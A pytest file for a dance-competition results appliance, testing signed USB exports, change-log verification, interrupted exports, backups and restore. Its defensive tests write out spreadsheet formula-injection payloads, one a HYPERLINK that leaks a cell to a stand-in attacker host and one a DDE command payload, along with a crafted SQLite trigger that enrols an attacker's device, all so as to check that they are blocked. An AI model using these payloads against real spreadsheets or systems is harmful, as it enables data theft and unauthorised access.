"""USB export, its offline check, T12 (the stick fills up or is pulled mid-export), CSV safe to open, backups and
restore. (No secret on the stick, the sealed backup: test_export_secrets.py.)"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys

import pytest

from appliance import csvsafe
from appliance.db.store import Store
from appliance.model.registration import CoupleUpdate
from appliance.services import Context, registration
from appliance.settings import Settings
from appliance.trust import crypto
from tests.conftest import ROOT, floorcraft

PASSPHRASE = "the organiser's long passphrase"


@pytest.fixture(scope="module")
def judged(judged_demo):
    """A demo competition judged to its official results (simulated tablets)."""
    return judged_demo


def sealing(tmp_path) -> dict:
    (tmp_path / "passphrase").write_text(PASSPHRASE + "\n")
    return {"FLOORCRAFT_BACKUP_PASSPHRASE_FILE": str(tmp_path / "passphrase")}


def test_an_export_holds_results_log_and_sealed_backup_under_a_signed_manifest(judged, tmp_path):
    (tmp_path / "stick").mkdir()  # the stick's mount point (export refuses a folder that does not exist)
    run = floorcraft(judged, "export", str(tmp_path / "stick"), check=True, env=sealing(tmp_path))
    folder = next((tmp_path / "stick").glob("floorcraft-export-*"))
    assert b"exported to" in run.stdout
    names = {p.name for p in folder.iterdir()}
    assert {
        "MANIFEST.json",
        "results.json",
        "results.csv",
        "results.html",
        "change_log.jsonl",
        "floorcraft-backup.sqlite3.sealed",
    } <= names
    assert "floorcraft.sqlite3" not in names  # the raw database (every device's key) never leaves the box
    assert not [n for n in names if n.endswith(".partial")]
    manifest = json.loads((folder / "MANIFEST.json").read_text())
    assert manifest["complete"] is True and manifest["signature"]
    html = (folder / "results.html").read_text()
    assert "Rule" in html and "Dance W" in html and "official" in html
    placings = json.loads((folder / "results.json").read_text())["events"]
    assert len(placings) == 4 and all(e["official"] for e in placings)
    assert floorcraft(judged, "verify-export", str(folder)).returncode == 0


def test_an_unchanged_box_exports_the_same_documents_without_rendering_them_again(judged, tmp_path):
    """The stick's PDFs show the state as of the last change: a second export of an unchanged box takes each one
    from the data dir's kept documents (not re-rendered: same files, same bytes); the first stick still verifies."""
    sticks = [tmp_path / "one", tmp_path / "two"]
    kept = judged / "documents"
    stamps = []
    for stick in sticks:
        stick.mkdir()
        floorcraft(judged, "export", str(stick), check=True)
        stamps.append({p.name: p.stat().st_mtime_ns for p in kept.glob("*.pdf")})
    assert stamps[0] and stamps[0] == stamps[1]
    one, two = (next(s.glob("floorcraft-export-*")) for s in sticks)
    pdfs = sorted(p.name for p in one.glob("*.pdf"))
    assert len(pdfs) == len(stamps[0]) and pdfs == sorted(p.name for p in two.glob("*.pdf"))
    assert all((one / name).read_bytes() == (two / name).read_bytes() for name in pdfs)
    assert floorcraft(judged, "verify-export", str(one)).returncode == 0


def test_verify_export_names_an_altered_file_and_an_altered_manifest(judged, tmp_path):
    floorcraft(judged, "export", str(tmp_path), check=True)
    folder = next(tmp_path.glob("floorcraft-export-*"))
    csv = folder / "results.csv"
    csv.write_text(csv.read_text().replace("Floorcraft Demo Open", "Forged Open", 1))
    run = floorcraft(judged, "verify-export", str(folder))
    assert run.returncode == 1 and b"results.csv does not match its checksum" in run.stdout
    manifest = json.loads((folder / "MANIFEST.json").read_text())
    manifest["files"]["results.csv"]["sha256"] = "0" * 64
    (folder / "MANIFEST.json").write_text(json.dumps(manifest))
    run = floorcraft(judged, "verify-export", str(folder))
    assert b"signature does not match" in run.stdout
    # --key=K: a base64url key may begin with "-", which argparse would take for an option after a space
    run = floorcraft(judged, "verify-export", str(folder), f"--key={crypto.b64u(os.urandom(32))}")
    assert b"another box's key" in run.stdout
    run = floorcraft(judged, "verify-export", str(folder), "--key", "someone-else")
    assert run.returncode == 2 and b"is not a box key" in run.stderr


def _resign(judged, folder, change_log: bytes) -> None:
    """Replace change_log.jsonl and sign the manifest again with the box's key (as the box would)."""
    from appliance.box.export import _manifest_bytes, box_key

    (folder / "change_log.jsonl").write_bytes(change_log)
    manifest = json.loads((folder / "MANIFEST.json").read_text())
    manifest.pop("signature")
    manifest["files"]["change_log.jsonl"] = {"sha256": hashlib.sha256(change_log).hexdigest(), "bytes": len(change_log)}
    manifest["signature"] = crypto.b64u(box_key(judged).sign(_manifest_bytes(manifest)))
    (folder / "MANIFEST.json").write_bytes(_manifest_bytes(manifest))


def test_verify_export_checks_the_change_log_chain_up_to_the_signed_head(judged, tmp_path):
    floorcraft(judged, "export", str(tmp_path), check=True)
    folder = next(tmp_path.glob("floorcraft-export-*"))
    lines = (folder / "change_log.jsonl").read_bytes().splitlines(keepends=True)
    _resign(judged, folder, b"".join(lines[:-1]))
    run = floorcraft(judged, "verify-export", str(folder))
    assert run.returncode == 1 and b"not at the manifest's head" in run.stdout
    row = json.loads(lines[5])
    row["payload"] = row["payload"] + " "  # any change to a row's content
    _resign(judged, folder, b"".join([*lines[:5], json.dumps(row).encode() + b"\n", *lines[6:]]))
    run = floorcraft(judged, "verify-export", str(folder))
    assert run.returncode == 1 and f"broken at seq {row['seq']}".encode() in run.stdout


def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(judged, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(judged, data)
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "-2+3", "+cmd|' /C calc'!A0"]
    store = Store(data / "floorcraft.sqlite3")
    try:
        ctx = Context(store, Settings(data_dir=str(data)))
        couples = store.read_sync(lambda conn: [r[0] for r in conn.execute("SELECT id FROM couples ORDER BY bib")])
        for couple_id, name in zip(couples, names, strict=False):
            asyncio.run(registration.update_couple(ctx, couple_id, CoupleUpdate(leader=name, follower=name)))
    finally:
        store.close()
    (tmp_path / "stick").mkdir()
    floorcraft(data, "export", str(tmp_path / "stick"), check=True)
    table = next((tmp_path / "stick").glob("floorcraft-export-*/results.csv")).read_text()
    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    for name in names:
        assert name not in cells and "'" + name in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]


def test_the_csv_helper_keeps_numbers_and_plain_text():
    assert [csvsafe.cell(v) for v in ("-3", "+1.5", "2e3", -3, 1.5, "Anna", "", None)] == [
        "-3",
        "+1.5",
        "2e3",
        -3,
        1.5,
        "Anna",
        "",
        None,
    ]
    assert [csvsafe.cell(v) for v in ("=1+1", "@A1", "\tx", "\rx", "-", "+", "-2+3")] == [
        "'=1+1",
        "'@A1",
        "'\tx",
        "'\rx",
        "'-",
        "'+",
        "'-2+3",
    ]


T12 = r"""
set -e
mount -t tmpfs -o size={size} tmpfs "$STICK"
set +e
"$PY" -m appliance export "$STICK"; echo "first=$?"
"$PY" -m appliance verify-export "$STICK"/floorcraft-export-*; echo "check=$?"
ls -a "$STICK"/floorcraft-export-*
mount -o remount,size=64m "$STICK"
"$PY" -m appliance export "$STICK"; echo "second=$?"
"$PY" -m appliance verify-export "$STICK"/floorcraft-export-*; echo "recheck=$?"
"""


def test_t12_a_stick_that_fails_mid_export_leaves_an_incomplete_manifest_and_the_next_export_succeeds(judged, tmp_path):
    stick = tmp_path / "stick"
    stick.mkdir()
    size = (judged / "floorcraft.sqlite3").stat().st_size // 2  # room for the small files, not the backup
    env = {
        "FLOORCRAFT_DATA_DIR": str(judged),
        "PATH": os.environ.get("PATH", ""),
        "PY": sys.executable,
        "STICK": str(stick),
        "PYTHONPATH": str(ROOT),
        **sealing(tmp_path),
    }
    run = subprocess.run(
        ["unshare", "-m", "--propagation", "private", "sh", "-c", T12.replace("{size}", str(size))],
        cwd=ROOT,
        capture_output=True,
        timeout=180,
        env=env,
    )
    out = run.stdout.decode()
    assert "first=1" in out, out + run.stderr.decode()
    assert "the export is INCOMPLETE" in out and "check=1" in out
    assert "MANIFEST.json" in out
    assert "second=0" in out and "recheck=0" in out and "complete, signed and intact" in out


def test_backups_are_checked_and_rolled(judged, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(judged, data)
    for _ in range(4):
        floorcraft(data, "backup", "--keep", "3", check=True)
    backups = sorted((data / "backups").glob("floorcraft-*.sqlite3"))
    assert len(backups) == 3


def test_restore_refuses_a_corrupt_file_and_restores_a_good_backup(judged, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(judged, data)
    floorcraft(data, "backup", check=True)
    good = next((data / "backups").glob("floorcraft-*.sqlite3"))
    bad = tmp_path / "bad.sqlite3"
    bad.write_bytes(b"not a database" * 500)
    before = (data / "floorcraft.sqlite3").read_bytes()
    run = floorcraft(data, "restore", str(bad))
    assert run.returncode == 2 and b"refusing to restore" in run.stderr
    assert (data / "floorcraft.sqlite3").read_bytes() == before
    run = floorcraft(data, "restore", str(good))
    assert run.returncode == 0 and b"previous database is kept" in run.stdout
    assert floorcraft(data, "verify").returncode == 0


def test_restore_refuses_a_database_with_a_trigger_or_a_view(judged, tmp_path):
    """A crafted "backup" with a trigger passed every check; the trigger would then run its SQL on the box's next
    write (here: enrol the attacker's own scrutineer device)."""
    import sqlite3

    data = tmp_path / "data"
    shutil.copytree(judged, data)
    floorcraft(data, "backup", check=True)
    good = next((data / "backups").glob("floorcraft-*.sqlite3"))
    before = (data / "floorcraft.sqlite3").read_bytes()
    for sql in (
        "CREATE TRIGGER t AFTER INSERT ON change_log BEGIN INSERT INTO devices (id, role, key, counter, revoked, "
        "enrolled_at) VALUES ('evil', 'scrutineer', x'00', 0, 0, ''); END",
        "CREATE VIEW v AS SELECT 1",
    ):
        crafted = tmp_path / "crafted.sqlite3"
        shutil.copy(good, crafted)
        with sqlite3.connect(crafted) as conn:
            conn.execute(sql)
        conn.close()
        run = floorcraft(data, "restore", str(crafted))
        assert run.returncode == 2 and b"is not a Floorcraft database" in run.stderr, run.stderr
        assert (data / "floorcraft.sqlite3").read_bytes() == before
        crafted.unlink()


def test_t12_an_export_killed_half_way_says_incomplete_and_the_next_export_succeeds(tmp_path):
    import signal
    import time

    from appliance.db import changelog
    from appliance.db.store import Store

    data = tmp_path / "data"
    store = Store(data / "floorcraft.sqlite3")
    filler = {"note": "x" * 1000}
    store.write_sync(
        lambda conn: [changelog.append(conn, "test.filler", f"filler/{i}", filler, store.clock()) for i in range(30000)]
    )
    store.close()
    stick = tmp_path / "stick"
    stick.mkdir()
    env = {"FLOORCRAFT_DATA_DIR": str(data), "PATH": os.environ.get("PATH", ""), **sealing(tmp_path)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "appliance", "export", str(stick)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not list(stick.glob("floorcraft-export-*/MANIFEST.json")):
        time.sleep(0.001)
    proc.send_signal(signal.SIGKILL)  # the stick is pulled, or the box loses power, half-way
    proc.wait(10)
    folder = next(stick.glob("floorcraft-export-*"))
    run = floorcraft(data, "verify-export", str(folder))
    assert run.returncode == 1 and b"INCOMPLETE" in run.stdout
    assert not (folder / "floorcraft-backup.sqlite3.sealed").exists()  # no half-written file under its real name
    floorcraft(data, "export", str(stick), check=True, env=sealing(tmp_path))
    assert floorcraft(data, "verify-export", str(folder)).returncode == 0


USB = r"""
set -e
device=$(losetup -f --show "$IMAGE")
trap 'losetup -d "$device"' EXIT
"$SCRIPT" "$device"
mkdir -p "$CHECK"
mount "$device" "$CHECK"
"$USB_EXPORT_BIN" verify-export "$CHECK"/floorcraft-export-*
umount "$CHECK"
"""


def test_the_udev_started_export_mounts_the_stick_exports_and_unmounts(judged, tmp_path):
    image = tmp_path / "stick.img"
    subprocess.run(["truncate", "-s", "32M", str(image)], check=True)
    subprocess.run(["mkfs.ext4", "-q", "-F", str(image)], check=True)
    wrapper = tmp_path / "floorcraft"
    wrapper.write_text(f'#!/bin/sh\nexec {sys.executable} -m appliance "$@"\n')
    wrapper.chmod(0o755)
    env = {
        "PATH": os.environ.get("PATH", ""),
        "FLOORCRAFT_DATA_DIR": str(judged),
        "PYTHONPATH": str(ROOT),
        "IMAGE": str(image),
        "SCRIPT": str(ROOT / "provisioning" / "floorcraft-usb-export"),
        "USB_EXPORT_BIN": str(wrapper),
        "USB_EXPORT_MOUNT": str(tmp_path / "usb"),
        "CHECK": str(tmp_path / "check"),
    }
    run = subprocess.run(
        ["unshare", "-m", "--propagation", "private", "sh", "-c", USB],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert "exported to" in run.stdout and "complete, signed and intact" in run.stdout
